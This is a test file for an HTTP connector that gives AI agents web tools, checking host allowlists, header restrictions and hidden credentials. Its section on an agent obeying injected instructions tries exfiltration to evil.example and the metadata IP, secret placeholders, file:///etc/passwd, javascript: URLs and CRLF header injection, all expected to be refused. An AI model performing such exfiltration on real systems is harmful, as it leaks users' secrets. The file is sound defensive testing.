import { connectorHttpPlugin } from '@countersign/connector-http';
import { OutboundHttpError, RetryableFailure, ToolError } from '@countersign/core/plugin';
import { expect } from 'chai';
import { startService, type Service } from './connectors.spec.support.js';
import { createToolBench, type ToolBench } from './tools.spec.support.js';

const CANARY = 'canary-77e0b2';

interface ResponseContent {
  readonly status: number;
  readonly headers: Readonly<Record<string, string>>;
  readonly body: unknown;
  readonly bodyType: string;
}

describe('HTTP tools of agents', () => {
  let service: Service;
  let workflowOnlyService: Service;
  let tools: ToolBench;

  before(async () => {
    [service, workflowOnlyService] = await Promise.all([startService(), startService()]);
    tools = createToolBench(connectorHttpPlugin, {
      Connectors: {
        AllowedNetworks: ['127.0.0.1'],
        Http: { AllowedHosts: ['*:*'] },
        Secrets: {
          TRACKER: { Value: CANARY, Hosts: [service.host, workflowOnlyService.host] },
          ELSEWHERE: { Value: CANARY, Hosts: ['api.example'] },
        },
      },
      Agents: {
        Http: {
          AllowedHosts: [service.host, '127.0.0.1:1', 'metadata.invalid'],
          MaxBytes: 1_000,
          Credentials: {
            tracker: { Secret: 'TRACKER' },
            key: { Type: 'header', Header: 'X-API-Key', Secret: 'TRACKER' },
            person: { Type: 'basic', Username: 'ada', Secret: 'TRACKER' },
            misplaced: { Secret: 'ELSEWHERE' },
          },
        },
      },
    });
  });

  beforeEach(() => {
    for (const each of [service, workflowOnlyService]) {
      each.calls.splice(0);
      each.respond = (_, response) => response.end();
    }
  });

  after(() => Promise.all([service.close(), workflowOnlyService.close()]));

  const jsonResponse =
    (body: unknown, status = 200, headers: Record<string, string> = {}): Service['respond'] =>
    (_, response) =>
      void response.writeHead(status, { 'Content-Type': 'application/json', ...headers }).end(JSON.stringify(body));

  describe('http.get', () => {
    it('should return the response with its relevant headers', async () => {
      // given
      service.respond = jsonResponse({ open: 3 }, 200, { 'ETag': '"1"', 'X-Internal': 'host-7' });

      // when
      const { content, taint } = await tools.call<ResponseContent>('http.get', {
        url: `${service.url}/issues?state=open`,
        query: { page: 2 },
        headers: { Accept: 'application/json' },
      });

      // then
      expect(content).to.eql({
        status: 200,
        headers: { 'content-type': 'application/json', 'etag': '"1"' },
        body: { open: 3 },
        bodyType: 'json',
      });
      expect(taint, 'no taint of the output, so that the taint of the tool applies').to.equal(undefined);
      expect(service.calls[0]).to.include({ method: 'GET', path: '/issues?state=open&page=2' });
      expect(service.calls[0]?.headers).not.to.have.property('idempotency-key');
    });

    for (const status of [301, 404, 500]) {
      it(`should return a response with status ${status} without following its redirect`, async () => {
        service.respond = (_, response) => response.writeHead(status, { Location: `${service.url}/elsewhere` }).end();

        expect((await tools.call<ResponseContent>('http.get', { url: service.url })).content).to.deep.include({
          status,
          headers: { location: `${service.url}/elsewhere` },
        });
        expect(service.calls).to.have.length(1);
      });
    }

    it('should fail as retryable after the delay that a busy service requests', async () => {
      service.respond = (_, response) => response.writeHead(503, { 'Retry-After': '7' }).end();

      expect(await tools.callAndGetError('http.get', { url: service.url }))
        .to.be.instanceOf(RetryableFailure)
        .and.include({ code: 'http_status_503', retryAfterMs: 7_000 });
    });

    it('should return a JSON response as a string when it is malformed or cannot be stored by a run', async () => {
      for (const body of ['{"a": ', '{"__proto__": {"a": 1}}', '"\\u0000"']) {
        service.respond = (_, response) => response.writeHead(200, { 'Content-Type': 'application/json' }).end(body);

        expect((await tools.call<ResponseContent>('http.get', { url: service.url })).content, body).to.include({
          body,
          bodyType: 'text',
        });
      }
    });

    it('should report to the language model that a response is too large', async () => {
      service.respond = (_, response) => void response.end('x'.repeat(1_001));

      expect(await tools.callAndGetError('http.get', { url: service.url }))
        .to.be.instanceOf(ToolError)
        .and.include({ code: 'outbound_response_too_large' });
    });

    for (const [caseName, extraFields] of Object.entries({
      'a header that overrides the method': { headers: { 'X-HTTP-Method-Override': 'DELETE' } },
      'any other header that may be a command': { headers: { 'X-Delete': 'yes' } },
      'a body': { body: 'x' },
      'another method': { method: 'DELETE' },
      'a secret': { secret: 'TRACKER' },
      'the authentication input of workflows': { authentication: { type: 'bearer', secret: 'TRACKER' } },
    })) {
      it(`should not accept ${caseName}`, () => {
        expect(tools.acceptsInput('http.get', { url: 'https://api.example/' })).to.equal(true);
        expect(tools.acceptsInput('http.get', { url: 'https://api.example/', ...extraFields })).to.equal(false);
      });
    }

    for (const url of [
      'file:///etc/passwd',
      'api.example',
      'https://ada:secret@api.example/',
      'javascript:alert(1)',
      '',
    ]) {
      it(`should not accept ${JSON.stringify(url)} as a URL`, () =>
        expect(tools.acceptsInput('http.get', { url })).to.equal(false));
    }
  });

  describe('http.request', () => {
    it('should send the given request with the idempotency key of the call', async () => {
      service.respond = jsonResponse({ id: 7 }, 201);

      const { content } = await tools.call<ResponseContent>(
        'http.request',
        { method: 'POST', url: `${service.url}/orders`, body: { amount: 5 } },
        { idempotencyKey: 'call-9' },
      );

      expect(content).to.deep.include({ status: 201, body: { id: 7 } });
      expect(service.calls).to.have.length(1);
      expect(service.calls[0]).to.include({ method: 'POST', path: '/orders', body: '{"amount":5}' });
      expect(service.calls[0]?.headers).to.include({ 'idempotency-key': 'call-9', 'content-type': 'application/json' });
    });

    it('should not follow a redirect to a host that no person has approved', async () => {
      service.respond = (_, response) => response.writeHead(307, { Location: `${workflowOnlyService.url}/` }).end();

      expect(
        (await tools.call<ResponseContent>('http.request', { method: 'POST', url: service.url, body: 'x' })).content,
      ).to.include({ status: 307 });
      expect(workflowOnlyService.calls).to.eql([]);
    });

    it('should fail as retryable when no connection was made or the service responds with 429', async () => {
      service.respond = (_, response) => response.writeHead(429, { 'Retry-After': '1' }).end();

      expect(await tools.callAndGetError('http.request', { method: 'POST', url: 'http://127.0.0.1:1/' }))
        .to.be.instanceOf(RetryableFailure)
        .and.include({ code: 'outbound_unreachable' });
      expect(await tools.callAndGetError('http.request', { method: 'POST', url: service.url }))
        .to.be.instanceOf(RetryableFailure)
        .and.include({ code: 'http_status_429' });
    });

    it('should leave the outcome unknown when the connection breaks or the response is too large', async () => {
      for (const respond of [
        ((call, response) => void response.destroy()) as Service['respond'],
        ((call, response) => void response.end('x'.repeat(1_001))) as Service['respond'],
      ]) {
        service.respond = respond;

        const failure = await tools.callAndGetError('http.request', { method: 'PUT', url: service.url });

        expect(failure).to.be.instanceOf(OutboundHttpError).and.include({ wasSent: true });
      }
    });

    it('should not be repeated automatically when the outcome is unknown, unlike http.get', () => {
      expect(tools.tool('http.request')).to.include({ effect: 'write', reversible: false, unknownOutcome: 'park' });
      expect(tools.tool('http.get')).to.include({ effect: 'read', unknownOutcome: 'repeat' });
    });

    it('should report the origin of its URL for the policy and the approver', () => {
      const { hosts, input } = tools.tool('http.request');

      const destinationHosts = (url: string) => hosts?.(input.parse({ method: 'PUT', url }));
      expect(destinationHosts('https://API.example:8443/a')).to.eql(['https://api.example:8443']);
      expect(destinationHosts('http://api.example:80/a')).to.eql(['http://api.example']);
    });

    for (const name of ['Idempotency-Key', 'x-http-method-override', 'X-Method-Override']) {
      it(`should not accept the header ${name}`, () =>
        expect(
          tools.acceptsInput('http.request', { method: 'PUT', url: 'https://api.example/', headers: { [name]: 'x' } }),
        ).to.equal(false));
    }

    for (const [caseName, extraFields] of Object.entries({
      'an Authorization header': { Authorization: `Bearer ${CANARY}` },
      'a cookie': { Cookie: 'session=1' },
      'a broken header': { 'X-A': 'a\r\nX-B: b' },
    })) {
      it(`should refuse a forbidden or malformed header: ${caseName}`, async () => {
        expect(await tools.callAndGetError('http.request', { method: 'POST', url: service.url, headers: extraFields }))
          .to.be.instanceOf(ToolError)
          .and.include({ code: 'outbound_request_invalid' });
        expect(service.calls).to.eql([]);
      });
    }
  });

  describe('an agent that obeys injected instructions to leak secrets', () => {
    it('should reach only the hosts that are configured for agents', async () => {
      for (const url of [
        workflowOnlyService.url,
        'https://evil.example/',
        'http://169.254.169.254/',
        `http://localhost:${new URL(service.url).port}/`,
      ]) {
        expect(await tools.callAndGetError('http.get', { url, query: { data: 'leaked data' } }), url)
          .to.be.instanceOf(ToolError)
          .and.include({ code: 'outbound_host_not_allowed' });
        expect(await tools.callAndGetError('http.request', { method: 'POST', url, credential: 'tracker' }), url)
          .to.be.instanceOf(ToolError)
          .and.include({ code: 'outbound_host_not_allowed' });
      }
      expect(workflowOnlyService.calls).to.eql([]);
    });

    it('should authenticate with configured credentials without seeing them', async () => {
      service.respond = (call, response) => jsonResponse({ echo: call.headers })(call, response);

      for (const [credential, header, value] of [
        ['tracker', 'authorization', `Bearer ${CANARY}`],
        ['key', 'x-api-key', CANARY],
        ['person', 'authorization', `Basic ${Buffer.from(`ada:${CANARY}`).toString('base64')}`],
      ] as const) {
        const output = await tools.call<ResponseContent>('http.get', { url: service.url, credential });

        expect(service.calls.at(-1)?.headers[header]).to.equal(value);
        expect(JSON.stringify(output))
          .to.include('[secret]')
          .and.not.to.include(CANARY)
          .and.not.to.include(Buffer.from(`ada:${CANARY}`).toString('base64'));
      }
    });

    for (const credential of ['TRACKER', 'API', 'toString', '__proto__', CANARY]) {
      it(`should not authenticate with ${credential === CANARY ? 'a secret itself' : credential}, which is not a credential for agents`, async () => {
        const refusal = await tools.callAndGetError('http.request', { method: 'POST', url: service.url, credential });

        expect(refusal).to.be.instanceOf(ToolError).and.include({ code: 'http_credential_unknown' });
        expect(refusal.message).not.to.include(CANARY);
        expect(service.calls).to.eql([]);
      });
    }

    it('should not send a secret to a host that the secret is not configured for', async () => {
      expect(await tools.callAndGetError('http.request', { method: 'POST', url: service.url, credential: 'misplaced' }))
        .to.be.instanceOf(ToolError)
        .and.include({ code: 'outbound_secret_not_for_host' });
      expect(service.calls).to.eql([]);
    });

    it('should not resolve secret placeholders in a URL, a header or a body', async () => {
      await tools.call('http.request', {
        method: 'POST',
        url: `${service.url}/{{secrets.TRACKER}}`,
        headers: { 'X-Note': '{{secrets.TRACKER}}' },
        body: '${TRACKER} {{secrets.TRACKER}}',
      });

      expect(JSON.stringify(service.calls)).not.to.include(CANARY);
    });
  });
});
